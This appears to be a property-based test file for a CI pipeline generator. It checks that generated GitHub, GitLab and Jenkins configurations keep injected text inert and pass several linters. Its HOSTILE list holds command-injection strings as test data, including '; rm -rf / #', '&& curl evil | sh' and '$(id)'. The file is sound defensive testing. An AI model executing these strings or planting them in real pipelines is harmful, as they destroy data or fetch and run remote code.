"""Property-based proof: specs generated from the schema, hostile text in every free-text field.

Each output must parse, keep every hostile string verbatim as inert data, and pass the real
checkers. GENCI_EXAMPLES sets how many specs are generated (default 25, well under a minute):

    GENCI_EXAMPLES=500 python -m pytest tests/test_properties.py
"""

from __future__ import annotations

import copy
import json
import os
import re
from datetime import date
from pathlib import Path

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from hypothesis_jsonschema import from_schema
import yaml as pyyaml
from ruamel.yaml import YAML

from generator import pins
from generator.emitting import canonical
from generator.fingerprint import split
from generator.pipeline import generate
from generator.rules.daemon import ENGINE_LINE
from generator.rules.images import CI_PREFIXES, credential_name, reserved_variable
from generator.rules.platforms import GITLAB_MERGE_VERSION
from generator.validation import spec_schema
from tests.conftest import buildx_build_args, gitlab_scripts, run_tool

EXAMPLES = int(os.environ.get("GENCI_EXAMPLES", "25"))
# No shrinking: a generated spec is small enough to read, and shrinking one can take minutes.
# The default run is the same every time, so CI gates on known examples; GENCI_EXAMPLES=N runs
# explore new ones (longer runs found several output defects that way).
SETTINGS = settings(
    max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck), database=None,
    derandomize="GENCI_EXAMPLES" not in os.environ,
    phases=[Phase.explicit, Phase.generate],
)

HOSTILE = [
    "${{ github.token }}", "${{ secrets.REGISTRY_PASSWORD }}", "$[[ inputs.tag ]]", "$(id)", "`id`",
    "{{ 7 * 7 }}", "{% raw %}x{% endraw %}", "{#", "line1\nline2", "'\"'", "# not a comment", "a: b",
    "*alias", "&anchor", "!tag", "%directive", "@at", "- item", "? key", "|", ">", "ünïcødé ✓ 😀",
    "$HOME", "$$", "${CI_JOB_TOKEN}", "\\n", "'${{'", "}} {{", "x" * 3000, " leading space", "trailing ",
    "null", "true", "0x1F", "~", "\u2028sep", "tab\there", "; rm -rf / #", "&& curl evil | sh",
    "no", "on", "1:30", "0o17", "nel\u0085", "\u0085", "ps\u2029", 'a "b", c', "=", "<<",
]


def _allowed(value: str, schema: dict) -> bool:
    pattern = schema.get("pattern")
    return len(value) <= schema.get("maxLength", len(value)) and (pattern is None or re.fullmatch(pattern, value) is not None)


def github_evaluate(text: str) -> str:
    """What GitHub makes of a workflow string; fails on any expression that is not a string literal."""
    out, index = [], 0
    while (start := text.find("${{", index)) >= 0:
        out.append(text[index:start])
        cursor, quoted = start + 3, False
        while cursor < len(text) and (quoted or not text.startswith("}}", cursor)):
            quoted ^= text[cursor] == "'"
            cursor += 1
        assert cursor < len(text), f"unterminated expression in {text!r}"
        literal = re.fullmatch(r"\s*'((?:[^']|'')*)'\s*", text[start + 3 : cursor])
        assert literal, f"live expression {text[start:cursor + 2]!r}"
        out.append(literal.group(1).replace("''", "'"))
        index = cursor + 2
    return "".join(out) + text[index:]


def yaml_safe_json(spec: dict) -> str:
    """The spec as JSON, which is YAML 1.2; YAML refuses raw C1 controls, so they are escaped as \\uXXXX."""
    return re.sub("[\x7f-\x9f]", lambda m: f"\\u{ord(m.group()):04x}", json.dumps(spec, ensure_ascii=False))


def repair(spec: dict) -> dict:
    """Make a schema-valid spec also pass the semantic rules, changing as little as possible."""
    spec = copy.deepcopy(spec)
    spec.pop("$schema", None)
    docker = spec.setdefault("docker", {})
    push = spec.setdefault("push", {})
    scan = spec.setdefault("scan", {})
    runners = spec.setdefault("runners", {})
    if docker.get("mode") == "rootless" and "github" in spec["targets"]:
        docker["mode"] = "socket"  # rootless renders GitLab only (GC130)
    if docker.get("mode", "socket") in ("socket", "rootless"):
        for key in list(docker):
            if key not in ("mode", "version", "buildkit"):
                del docker[key]
    else:
        if docker.get("network", "isolated") == "isolated":
            docker.pop("bip", None)
            docker.pop("mtu", None)
        if docker.get("iptables") is False and docker.get("icc") is False:
            del docker["icc"]
        isolated = docker.get("network", "isolated") == "isolated"
        if docker.get("iptables", not isolated) is False and docker.get("icc", isolated) is False:
            docker.pop("iptables", None)
            docker.pop("icc", None)
    docker.pop("mirror", None)  # a pull mirror has rules (GC175, GC176) and a golden of its own: tests/test_mirror.py
    # A spec's own tool images: tools gen-ci runs, by tag and digest, each pinned in one place (GC178, GC179, GC169).
    tools = spec.get("tool_images", {})
    for name in list(tools):
        if name not in pins.pins()["images"] or name in pins.ENGINE_IMAGES or not pins.PINNED.match(tools[name]):
            del tools[name]
    if scan.get("tool", "trivy") in tools:
        scan.pop("digest", None)
    for image in spec["images"]:
        if "hadolint" in tools and isinstance(image.get("dockerfile_check"), dict):
            image["dockerfile_check"].pop("digest", None)
    # Engine and builder images run by digest (GC172): a version of the user's own brings its own digests.
    if docker.get("buildkit", pins.image_tag("buildkit")) != pins.image_tag("buildkit"):
        del docker["buildkit"]
    if "version" not in docker or int(docker["version"].split(".")[0]) < ENGINE_LINE:
        for key in ("version", "dind_digest", "cli_digest"):
            docker.pop(key, None)
    elif docker["version"] != pins.image_tag("docker-cli").removesuffix("-cli"):
        if docker.get("mode", "socket") == "dind":
            docker.setdefault("dind_digest", "sha256:" + "0" * 64)
        if {"gitlab", "jenkins", "jenkins_agent"} & set(spec["targets"]):  # the agent's target brings the Jenkinsfile's
            docker.setdefault("cli_digest", "sha256:" + "1" * 64)
    triggers = spec.setdefault("triggers", {})
    # A class's range runs forwards within one kind of character (GC013, tested on its own).
    for holder in (push, triggers, *(rule for image in spec["images"] for rule in image.get("tags", []) if isinstance(rule, dict))):
        for kind in ("branches", "tags"):
            if kind in holder:
                holder[kind] = [re.sub(r"\[[^\]]*\]", "[0-9]", pattern) for pattern in holder[kind]]
    # Every push pattern must be reachable (GC114), and some trigger must exist (GC113).
    for kind in ("branches", "tags"):
        # + in a trigger is a quantifier (GitHub's filter syntax), so a push pattern holding one is unreachable.
        push[kind] = [pattern.replace("+", "-") for pattern in push.get(kind, ["main"] if kind == "branches" else ["v*"])]
        pushed = push[kind]
        triggers[kind] = list(dict.fromkeys(triggers.get(kind, ["main"] if kind == "branches" else ["v*"]) + pushed))
    triggers["pull_requests"] = True
    # Never a spec (GC115).
    spec["targets"] = {platform: "out/Jenkinsfile" if platform == "jenkins" else f"out/{platform}.yml" for platform in spec["targets"]}
    if not spec.get("check_job"):
        spec.pop("check_requirements", None)
        spec.pop("check_install", None)
    if "check_requirements" in spec:
        spec.pop("check_install", None)
    # Cron ranges are a semantic rule (GC112), tested on its own; keep only expressions that pass it.
    from generator.rules import _cron_problem

    triggers["schedule"] = [c for c in triggers.get("schedule", []) if _cron_problem(c) is None]
    runners["github"] = ["ubuntu-24.04"]
    if "gitlab" in spec["targets"]:
        runners["gitlab"] = runners.get("gitlab") or ["docker"]
        if push.get("auth", "token") in ("oidc", "token"):
            # The platforms' own tokens each reach only their own registry: one spec for both needs secrets.
            push["auth"] = "secrets" if "github" in spec["targets"] else "token"
        if any(len(image.get("platforms", [])) > 1 for image in spec["images"]):
            if tuple(int(part) for part in docker.get("version", "29.8.1").split(".")) < GITLAB_MERGE_VERSION:
                for key in ("version", "dind_digest", "cli_digest"):
                    docker.pop(key, None)  # gen-ci's own engine merges the platforms' layouts (GC102)
        for image in spec["images"]:
            if image.get("cache") == "gha":
                image["cache"] = "auto"
    if scan.get("tool") == "none":
        for key in ("fail_on", "ignore_unfixed", "digest", "mode", "security_report"):
            scan.pop(key, None)
    # Exceptions need trivy (GC173), real days and one entry an id (GC174), each tested on its own.
    if scan.get("tool", "trivy") != "trivy":
        scan.pop("exceptions", None)
    if "exceptions" in scan:
        kept: dict[str, dict] = {}
        for entry in scan["exceptions"]:
            try:
                date.fromisoformat(entry["until"])
            except ValueError:
                continue
            kept.setdefault(entry["id"], entry)
        scan["exceptions"] = list(kept.values())
    if scan.get("tool") == "grype" and "gitlab" in spec["targets"]:
        scan.pop("security_report", None)  # GitLab's report needs trivy's template (GC105)
    auth = push.get("auth", "token")
    if auth == "secrets":
        push.setdefault("username", "REGISTRY_USER")
        push.setdefault("password", "REGISTRY_PASSWORD")
        push.setdefault("environment", "registry")
    if auth == "oidc":
        push.setdefault("aws_role", "arn:aws:iam::123456789012:role/push")
        push.setdefault("aws_region", "eu-west-1")
    for index, image in enumerate(spec["images"]):
        image["id"] = f"img{index}"
        if "publish" in image:
            image.pop("repository", None)
            image["publish"] = _one_login_a_host([_repair_registry(entry, spec, push) for entry in image["publish"]], spec["targets"])
        else:
            image.setdefault("repository", f"ghcr.io/acme/img{index}")
            if auth == "oidc":  # OIDC is exchanged for AWS credentials: ECR only (GC108)
                image["repository"] = f"123456789012.dkr.ecr.eu-west-1.amazonaws.com/img{index}"
            if auth == "token":
                host = "ghcr.io/" if "github" in spec["targets"] else "registry.gitlab.com/"
                moved = host + image["repository"].split("/", 1)[1]
                image["repository"] = moved if len(moved) <= 200 else f"{host}acme/img{index}"
        # Services: pinned (GC126), one name each (GC128). Prepare outputs inside the context (GC128).
        services = image.get("services", [])
        for number, service in enumerate(services):
            service["name"] = f"svc{number}"
            # Values are data; the hostile ones are placed by hostile_specs, the schema's own by hypothesis.
            service["env"] = {key: value for key, value in service.get("env", {}).items() if value.isprintable()}
            tag = service["image"].rsplit("/", 1)[-1].partition(":")[2]
            if "@" not in service["image"] and not any(c.isdigit() for c in tag):  # a tag with no version moves (GC126)
                service["image"] = service["image"].split(":")[0] + ":1.0"
        if "prepare" in image:
            image["prepare"]["script"] = "make dist"
            context = image.get("context", ".").strip("/")
            image["prepare"]["outputs"] = [out if context in ("", ".") or out.startswith(context + "/") else f"{context}/{out}"
                                           for out in image["prepare"]["outputs"]]
            image["prepare"]["outputs"] = [out for out in dict.fromkeys(image["prepare"]["outputs"]) if len(out) <= 200] or [f"{context}/dist"]
            reference = image["prepare"]["image"]
            if "@" not in reference and not any(c.isdigit() for c in reference.rsplit("/", 1)[-1].partition(":")[2]):
                image["prepare"]["image"] = reference.split(":")[0] + ":1.0"
        # Checkout tests: a compose file with its service, or a script (GC153), in a variable of their own.
        for test in image.get("checkout_tests", []):
            if "compose" in test:
                test.pop("script", None)
                test.setdefault("service", "tests")
            else:
                test.pop("service", None)
                test.setdefault("script", "tests/smoke.sh")
            if reserved_variable(test.get("image_variable", "IMAGE")):
                test["image_variable"] = "IMAGE"
        image["paths"] = [path for path in image.get("paths", []) if ".." not in path.split("/")] or None
        if image["paths"] is None:
            del image["paths"]
        # A registry cache lives on one of the image's registries, for single-platform images (GC129).
        if image.get("cache") == "registry":
            image["cache"] = "none"
        image.pop("cache_repository", None)
        image.pop("cache_clean_release", None)
        # Build secrets are environment secrets on GitHub (GC110) and never named GITHUB_* there (GC121).
        image["secrets"] = {key: ("S_" + name if name.upper().startswith("GITHUB_") else name) for key, name in image.get("secrets", {}).items()}
        if image["secrets"]:
            push.setdefault("build_environment", "build")
            push.setdefault("environment", "registry")
        # Images built from images have rules of their own (GC154-GC158), tested in test_chains.py.
        image["build_args"] = {name: value for name, value in image.get("build_args", {}).items()
                               if not (isinstance(value, dict) and (value.get("from") == "image" or "image" in value))}
        # The Dockerfile check as hadolint, which takes levels, a digest and DL/SC ids (GC160-GC162).
        check = image.get("dockerfile_check")
        if check is not None:
            check["tool"] = "hadolint"
            seen_rules: set[str] = set()
            check["ignore"] = [entry for entry in check.get("ignore", []) if entry["rule"][:2] in ("DL", "SC")
                               and not (entry["rule"] in seen_rules or seen_rules.add(entry["rule"]))]
            if not check["ignore"]:
                del check["ignore"]
        # A prepared version needs its file among the prepare step's outputs (GC171); variables are
        # the platforms' own CI variables, never credentials (GC170).
        readers = [name for name, value in image["build_args"].items() if isinstance(value, dict) and value["from"] == "prepare"]
        if "prepare" in image:
            prepare = image["prepare"]
            ci_prefixes = tuple(prefix for target, prefixes in CI_PREFIXES.items() if target in spec["targets"] for prefix in prefixes)
            prepare["variables"] = [name for name in prepare.get("variables", []) if name.startswith(ci_prefixes) and not credential_name(name)]
            if readers:
                prepare["version_file"] = prepare["outputs"][0] + "/VERSION"
            else:
                prepare.pop("version_file", None)
        else:
            for name in readers:
                image["build_args"][name] = {"from": "version"}
        # Variants apart (GC119), and fixed names that fit with the prefix and suffix (GC118).
        image["tag_suffix"] = f"-i{index}"
        image["default_variant"] = index == 0
        room = 128 - len(image.get("tag_prefix", "")) - len(image["tag_suffix"])
        kept = [rule for rule in image.get("tags", ["ref"]) if len(rule if isinstance(rule, str) else rule["tag"]) <= room]
        image["tags"] = kept or ["sha"]
        # Versions: a file only where one is read (GC151), and only where some rule reads a version (GC109).
        from generator.tagging import rules_from_spec, versioned

        versions = image.get("versions")
        if versions is not None:
            if not any(versioned(rule) for rule in rules_from_spec(image.get("tags", ["ref"]))):
                del image["versions"]
            elif versions.get("from") == "file":
                versions["file"] = "/".join(part for part in versions.get("file", "VERSION").split("/") if part != "..") or "VERSION"
            else:
                versions.pop("file", None)
    events = push.get("events", ["push"])
    triggers["manual"] = triggers.get("manual", True) or "manual" in events
    triggers["release"] = triggers.get("release", False) or "release" in events
    if "schedule" in events and not triggers["schedule"]:
        triggers["schedule"] = ["0 4 * * 1"]
    if "schedule" in events and not push.get("branches"):  # schedules publish refs push.branches names (GC114)
        push["branches"] = ["main"]
        triggers["branches"] = list(dict.fromkeys(["main", *triggers["branches"]]))
    if {"release", "manual"} & set(events):
        push["tags"] = push.get("tags") or ["v*"]
        triggers["tags"] = list(dict.fromkeys(triggers["tags"] + push["tags"]))
    if "github" not in spec["targets"]:
        triggers["release"] = triggers["call"] = False
        push["events"] = [e for e in events if e != "release"] or ["push"]
    spec["shared_paths"] = [path for path in spec.get("shared_paths", []) if ".." not in path.split("/")]
    if not any("paths" in image for image in spec["images"]):
        spec.pop("shared_paths")
    if docker.get("mode") == "rootless":
        # What rootless mode cannot do (GC130): grype, several platforms, services, prepare, registry cache, OIDC.
        if scan.get("tool") == "grype":
            scan["tool"] = "trivy"
        if push.get("auth") == "oidc":
            push["auth"] = "secrets"
            push.setdefault("username", "REGISTRY_USER")
            push.setdefault("password", "REGISTRY_PASSWORD")
            push.setdefault("environment", "registry")
        for image in spec["images"]:
            image["platforms"] = image.get("platforms", ["linux/amd64"])[:1]
            image.pop("services", None)
            image.pop("prepare", None)
            image.pop("checkout_tests", None)
            image.pop("dockerfile_check", None)
            for entry in image.get("publish", []):
                if entry.get("auth") == "oidc":
                    entry.update(auth="secrets", username="REGISTRY_USER", password="REGISTRY_PASSWORD")
                    entry.pop("aws_role", None)
                    entry.pop("aws_region", None)
                    entry["repository"] = "registry.example.com/acme/app"
        runners.pop("platforms", None)
    if triggers.get("call"):
        push["sign"] = False  # a called workflow's signature cannot be verified (GC123)
    # Combining with hand-written files (scenario 28): only for a rendered platform (GC166), needs
    # only with include and never gen-ci's own names (GC165), no signing in a called workflow (GC123).
    from generator.combining import GITLAB_KEYWORDS, generated_name
    from generator.model import publishes

    if "gitlab" not in spec["targets"]:
        spec.pop("gitlab", None)
    if "github" not in spec["targets"]:
        spec.pop("github", None)
    gitlab = spec.get("gitlab", {})
    if docker.get("mode") == "rootless":
        gitlab.pop("include", None)  # GC167
    needs = [n for n in gitlab.get("publish_needs", []) if not generated_name(n) and n not in GITLAB_KEYWORDS]
    if needs and gitlab.get("include") and publishes({"branches": ["main"], "tags": [], "events": ["push"], **push}):
        gitlab["publish_needs"] = needs
    else:
        gitlab.pop("publish_needs", None)
    if spec.get("github", {}).get("called"):
        push["sign"] = False
    _repair_for_jenkins(spec)
    # Settings only other platforms read are refused where written (GC109).
    if "github" not in spec["targets"]:
        runners.pop("github", None)
        docker.pop("github_daemon", None)
        push.pop("build_environment", None)
        triggers.pop("release", None)
        triggers.pop("call", None)
    if "gitlab" not in spec["targets"]:
        runners.pop("gitlab", None)
    if not {"github", "gitlab"} & set(spec["targets"]):
        spec.pop("check_job", None)
        spec.pop("check_requirements", None)
    # Runner mappings only for built platforms (GC124), each either native or emulated (GC125).
    built = {platform for image in spec["images"] for platform in image.get("platforms", ["linux/amd64"])}
    mappings = runners.get("platforms", {})
    for platform in list(mappings):
        mapping = mappings[platform]
        if "github" in mapping:
            mapping["github"] = ["ubuntu-24.04-arm"]  # a hosted label: actionlint knows it, zizmor does not flag it
        if platform not in built:
            del mappings[platform]
        elif mapping.get("emulate") and ({"github", "gitlab"} & set(mapping) or platform == "linux/amd64"):
            del mapping["emulate"]
            if not mapping:
                del mappings[platform]
    return spec


def _repair_for_jenkins(spec: dict) -> None:
    """What the Jenkins target does not render (GC131) and settings it would not use (GC132)."""
    targets, docker, push, triggers = spec["targets"], spec["docker"], spec["push"], spec["triggers"]
    if "jenkins_agent" in targets:
        targets.setdefault("jenkins", "out/Jenkinsfile")
    if "jenkins" not in targets:
        spec.pop("jenkins", None)
        return
    jenkins = spec.setdefault("jenkins", {})
    jenkins.pop("credentials", None)
    if docker.get("mode") == "rootless":
        docker["mode"] = "socket"
    if jenkins.get("agent") == "kubernetes":
        jenkins.pop("label", None)
        targets.pop("jenkins_agent", None)
        if docker.get("mode", "socket") == "socket":
            docker["mode"] = "dind"
    if "jenkins_agent" not in targets:
        jenkins.pop("controller_url", None)
    if push.get("sign") is True:
        del push["sign"]
    spec.pop("shared_paths", None)
    if triggers.get("schedule") and not any("*" not in b and "+" not in b for b in triggers["branches"]):
        triggers["branches"].insert(0, "main")
    if push.get("auth") == "oidc":
        push.update(auth="secrets", username="REGISTRY_USER", password="REGISTRY_PASSWORD")
        push.pop("aws_role", None)
        push.pop("aws_region", None)
        push.setdefault("environment", "registry")
    for index, image in enumerate(spec["images"]):
        image["platforms"] = image.get("platforms", ["linux/amd64"])[:1]
        image.pop("paths", None)
        image.pop("checkout_tests", None)
        image.pop("dockerfile_check", None)
        for key in ("history", "variables", "version_file"):
            image.get("prepare", {}).pop(key, None)
        image["build_args"] = {name: ({"from": "version"} if isinstance(value, dict) and value["from"] == "prepare" else value)
                               for name, value in image.get("build_args", {}).items()}
        if image.get("cache") in ("registry", "gha"):
            image["cache"] = "auto"
        for number, entry in enumerate(image.get("publish", [])):
            if entry["repository"] == "platform" or entry.get("auth") == "oidc":
                entry.clear()
                entry.update(repository=f"registry.example.com/acme/img{index}-{number}", auth="secrets",
                             username="REGISTRY_USER", password="REGISTRY_PASSWORD")
                push.setdefault("environment", "registry")


def _repair_registry(entry: dict, spec: dict, push: dict) -> dict:
    """A registry entry whose auth works on every target of the spec."""
    entry = dict(entry)
    auth = entry.get("auth", "token")
    if auth == "token" and entry["repository"] != "platform":
        entry["repository"] = "platform"
    if auth == "secrets":
        entry.setdefault("username", "REGISTRY_USER")
        entry.setdefault("password", "REGISTRY_PASSWORD")
        push.setdefault("environment", "registry")
    if auth == "oidc":
        entry["repository"] = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/app"
        entry.setdefault("aws_role", "arn:aws:iam::123456789012:role/push")
        entry.setdefault("aws_region", "eu-west-1")
    entry["auth"] = auth
    return entry


def _one_login_a_host(entries: list[dict], targets: dict) -> list[dict]:
    """The registries left when those whose login would replace an earlier one's go (GC140)."""
    from generator.logins import clashes

    for platform in targets:
        while found := clashes(entries, platform):
            entries = entries[:found[0][1]] + entries[found[0][1] + 1:]
    return entries


@st.composite
def hostile_specs(draw):
    schema = spec_schema()
    # from_schema rewrites the schema it is given; the generator's cached copy must stay intact.
    spec = repair(draw(from_schema(copy.deepcopy(schema))))
    image_schema = schema["$defs"]["image"]["properties"]
    placed = {}
    name = draw(st.sampled_from([h for h in HOSTILE if _allowed(h, schema["properties"]["name"])]))
    spec["name"] = placed["name"] = name
    for index, image in enumerate(spec["images"]):
        image["test"] = placed[f"test{index}"] = draw(st.sampled_from(HOSTILE))
        value_schema = image_schema["build_args"]["additionalProperties"]
        value = draw(st.sampled_from([h for h in HOSTILE if _allowed(h, value_schema)]))
        image["build_args"] = {"HOSTILE": value}
        placed[f"arg{index}"] = value
    return spec, placed


def _yaml(text: str):
    """The output as a YAML 1.1 reader (GitLab's kind) sees it, after checking a 1.2 reader agrees.

    PyYAML is independent of ruamel, which wrote the file, so it cannot share ruamel's losses.
    """
    modern, legacy = YAML(typ="safe").load(text), pyyaml.safe_load(text)
    assert modern == legacy
    return legacy


def _check_github(doc: dict, spec: dict, placed: dict) -> None:
    assert github_evaluate(doc["name"]) == placed["name"]
    for index in range(len(spec["images"])):
        for job_id, job in doc["jobs"].items():
            steps = {step["name"]: step for step in job["steps"]}
            if not re.search(rf"-img{index}(-[a-z0-9-]+)?$", job_id) or f"Build img{index}" not in steps:
                continue  # another image's job, or a merge job, which builds and tests nothing
            assert github_evaluate(steps[f"Test img{index}"]["env"]["TEST_SCRIPT"]) == placed[f"test{index}"]
            assert buildx_build_args(steps[f"Build img{index}"], github_evaluate) == {"HOSTILE": placed[f"arg{index}"]}
            for step in job["steps"]:
                assert "${{" not in step.get("run", "")


def _check_gitlab(doc: dict, spec: dict, placed: dict) -> None:
    # An empty section (variables: with nothing under it) reads as null, which GitLab refuses.
    for job_id, job in doc.items():
        assert not isinstance(job, dict) or all(value is not None for value in job.values()), job_id
    for index in range(len(spec["images"])):
        for job_id, job in doc.items():
            if not re.fullmatch(rf"(build|candidate|release)-img{index}(-[a-z0-9-]+)?", job_id) or "GEN_CI_TEST_SCRIPT" not in job.get("variables", {}):
                continue  # another image's job, or one that builds nothing
            variables = job["variables"]
            assert variables["GEN_CI_TEST_SCRIPT"] == {"value": placed[f"test{index}"], "expand": False}
            assert variables["GEN_CI_BUILD_ARG_HOSTILE"] == {"value": placed[f"arg{index}"], "expand": False}


def test_hostile_specs_render_inert_and_pass_every_checker(tmp_path):
    from tests.test_jenkins import find, scripts, shell_value, tree

    outputs: dict[str, list[str]] = {"github": [], "gitlab": [], "jenkins": [], "jenkins_agent": []}

    @SETTINGS
    @given(hostile_specs())
    def render_one(case):
        spec, placed = case
        number = sum(map(len, outputs.values()))
        spec_file = tmp_path / f"spec{number}.yml"
        spec_file.write_text(yaml_safe_json(spec), encoding="utf-8")
        for platform in spec["targets"]:
            _, _, text = generate(spec_file, platform)
            if platform == "jenkins":
                jenkinsfile = tmp_path / f"jenkins{number}" / "Jenkinsfile"
                jenkinsfile.parent.mkdir()
                jenkinsfile.write_text(text)
                outputs[platform].append(str(jenkinsfile))
                stages = {stage["args"][0]: stage for stage in find(tree(jenkinsfile), "stage")}
                for index, image in enumerate(spec["images"]):
                    (script,) = scripts(find([stages[f"Test img{index}"]], "steps"))
                    assert shell_value(script, "GEN_CI_TEST_SCRIPT") == placed[f"test{index}"]
                    # An image with build secrets builds in two stages, with and without them (change requests).
                    builds = scripts([stages[f"Build img{index}"]])
                    assert len(builds) == (2 if image["secrets"] else 1)
                    for script in builds:
                        assert shell_value(script, "GEN_CI_BUILD_ARG_HOSTILE") == placed[f"arg{index}"]
                continue
            # Hostile values included, the templates write what the canonical emitter would.
            body = split(text)[1]
            assert canonical(body) == body
            doc = _yaml(text)
            if platform != "jenkins_agent":
                (_check_github if platform == "github" else _check_gitlab)(doc, spec, placed)
            out = tmp_path / f"out{number}-{platform}.yml"
            out.write_text(text)
            outputs[platform].append(str(out))

    render_one()
    assert all(outputs.values())
    _judge(outputs, tmp_path)


def _judge(outputs: dict[str, list[str]], tmp_path: Path) -> None:
    """Every real checker, on every output written, with zero findings."""
    from tests.test_jenkins import groovy_lint_findings, script_files

    github, gitlab = outputs.get("github", []), outputs.get("gitlab", [])
    jenkins, agents = outputs.get("jenkins", []), outputs.get("jenkins_agent", [])
    checks = []
    if jenkins:
        # Spec values are never wrapped, so a long one makes a long line; the goldens hold every rule.
        findings = groovy_lint_findings([Path(path) for path in jenkins], tmp_path / "groovy-lint")
        assert [f for f in findings if f["rule"] != "LineLength"] == []
        checks.append(run_tool("shellcheck", "--shell=sh", *(f for path in jenkins for f in script_files(Path(path), tmp_path))))
    if agents:
        checks.append(run_tool("check-jsonschema", "--builtin-schema", "vendor.compose-spec", *agents))
        checks.append(run_tool("gen-ci", "lint", *agents, *jenkins))
    if github:
        checks += [
            run_tool("check-jsonschema", "--builtin-schema", "vendor.github-workflows", *github),
            run_tool("actionlint", "-no-color", *github),
            run_tool("zizmor", "--offline", "--no-progress", "--persona", "pedantic", *github),
            run_tool("zizmor", "--offline", "--no-progress", "--persona", "auditor", *github),
        ]
    if gitlab:
        gitlab_files = [script for path in gitlab for script in gitlab_scripts(Path(path), tmp_path)]
        checks += [
            run_tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", *gitlab),
            run_tool("shellcheck", "--shell=sh", *gitlab_files),
        ]
        from generator.lint.document import read_pipeline
        from generator.lint.engine import lint

        assert [finding for path in gitlab for finding in lint(read_pipeline(path))] == []
    for result in checks:
        assert result.returncode == 0, f"{result.args[:3]}\n{result.stdout[-4000:]}\n{result.stderr[-2000:]}"



# What users write, unrepaired: repositories whose last segment is no id, ids that collide,
# directories spelled with ./ and slashes, the platform's registry with secrets, integers in float
# spelling. Each one the oracle below knows: what gen-ci must refuse, where, or render.
REPOSITORY_NAMES = {  # last segment: the id gen-ci derives, or None where it cannot name jobs
    "app": "app", "app-arm64": "app-arm64", "cart": "cart", "my_app": "my-app", "api.v2": "api-v2",
    "web__2": "web-2", "9app": None, "null": None, "on": None, "true": None, "gate": "gate",
}
PATH_SPELLINGS = ["services/cart", "services/cart/", "./services/cart", "./services/cart/", "services//cart", "services/./cart/"]
# Tag rules as users bring them, from docker/metadata-action and elsewhere: True where gen-ci's vocabulary has them.
TAG_SPELLINGS = {"{ref}-{sha7}": True, "v{version}": True, "{major}.{minor}": True, "nightly-{date}": True, "{{branch}}": False,
                 "{branch}": False, "{sha}": False, "{{sha}}": False, "{ref}-{SHA7}": False, "v{semver}": False}
INTEGER_SPELLINGS = {"45": False, "4.5e1": True, "45.0": True, "4.5E+1": True, "0.45e2": True}


@st.composite
def written_specs(draw):
    """(YAML text as a user writes it, {(code, json path)} gen-ci must report, or empty to render)."""
    targets = draw(st.sampled_from([["github"], ["gitlab"], ["github", "gitlab"]]))
    lines = ["version: 1", "name: shop", "targets: {" + ", ".join(f"{t}: out/{t}.yml" for t in targets) + "}"]
    expected: set[tuple[str, str]] = set()

    def integer(path: str) -> str:
        spelling = draw(st.sampled_from(sorted(INTEGER_SPELLINGS)))
        if INTEGER_SPELLINGS[spelling]:
            expected.add(("GC011", path))
        return spelling

    if draw(st.booleans()):
        lines.append(f"timeout_minutes: {integer('$.timeout_minutes')}")
    lines.append("docker: {mode: dind}")
    if "gitlab" in targets:
        lines.append("runners: {gitlab: [dind]}")
    lines += ["push: {auth: secrets, username: REGISTRY_USER, password: REGISTRY_PASSWORD, environment: registry}", "images:"]
    images = []
    for index in range(draw(st.integers(1, 3))):
        at = f"$.images[{index}]"
        name = draw(st.sampled_from(["platform", "platform/cart", "platform/tools/web", *REPOSITORY_NAMES]))
        given_id = draw(st.sampled_from([None, None, None, "web", "cart"]))
        multi = draw(st.booleans())
        item = ["  - test: make test"]
        if given_id:
            item.append(f"    id: {given_id}")
        if name.startswith("platform"):
            item.append("    publish:")
            item.append(f"      - {{repository: {name}, auth: secrets, username: REG_USER, password: REG_PASS}}")
            derived = {"platform": "image", "platform/cart": "cart", "platform/tools/web": "web"}[name]
        else:
            item.append(f"    repository: ghcr.io/acme/{name}")
            derived = REPOSITORY_NAMES[name]
        if multi:
            item.append("    platforms: [linux/amd64, linux/arm64]")
        tag = draw(st.one_of(st.none(), st.sampled_from(sorted(TAG_SPELLINGS))))
        if tag is not None:
            item.append(f"    tags: ['{tag}', sha]")
            if not TAG_SPELLINGS[tag]:
                expected.add(("GC013", f"{at}.tags[0]"))
        spelling = draw(st.one_of(st.none(), st.sampled_from(PATH_SPELLINGS)))
        if spelling:
            item.append(f"    paths: ['{spelling}']")
        if draw(st.booleans()):
            seconds = integer(f"{at}.services[0].ready.timeout_seconds")
            item.append(f"    services: [{{name: db, image: 'postgres:16.4', ready: {{command: pg_isready, timeout_seconds: {seconds}}}}}]")
        lines += item
        images.append({"name": name, "id": given_id or derived, "given": bool(given_id), "multi": multi, "paths": bool(spelling)})
    # The oracle, in the words of the rules: an id must name jobs, once, and no job twice.
    owners = {"publish-gate": -1}
    seen: set[str] = set()
    for index, image in enumerate(images):
        where = f"$.images[{index}].{'id' if image['given'] else 'repository'}"
        if image["id"] is None:
            expected.add(("GC106", where))
            continue
        if image["id"] in seen:
            expected.add(("GC106", where))
            continue
        seen.add(image["id"])
        jobs = {f"{role}-{image['id']}" for role in ("build", "publish", "scan", "tags", "describe", "sign")}
        if image["multi"]:
            jobs |= {f"{role}-{image['id']}-{arch}" for role in ("build", "candidate") for arch in ("amd64", "arm64")}
        if any(owners.setdefault(job, index) != index for job in jobs):
            expected.add(("GC106", where))
    # Two images publishing the same tags to one repository overwrite each other.
    for name in {image["name"] for image in images}:
        sharing = [index for index, image in enumerate(images) if image["name"] == name]
        if len(sharing) > 1:
            expected |= {("GC119", f"$.images[{index}]") for index in sharing}
    # The schema is checked first and the rules only on a spec that passes it.
    wrong_types = {problem for problem in expected if problem[0] in ("GC011", "GC013")}
    return "\n".join(lines) + "\n", wrong_types or expected, images


def _changed_files_build(text: str, platform: str, ident: str) -> dict[str, bool]:
    """Whether a change to each file builds image `ident`, as the platform decides it."""
    from fnmatch import fnmatchcase

    files = ["services/cart/main.go", "services/cart/a/b.go", "services/cartography/x", "README.md"]
    doc = _yaml(text)
    if platform == "github":
        (script,) = [step["run"] for step in doc["jobs"]["changes"]["steps"] if step.get("name") == "Compare with the base"]
        (regex,) = re.findall(rf"^\s*decide {ident} '([^']*)'$", script, re.M)
        return {f: re.search(regex, f) is not None for f in files}  # an ERE Python reads alike
    # Every job of the image carries the same filter (one per platform where it builds several).
    filters = {tuple(rule["changes"]["paths"]) for name, job in doc.items()
               if re.fullmatch(rf"build-{ident}(-amd64|-arm64)?", name) for rule in job["rules"] if "changes" in rule}
    (paths,) = filters
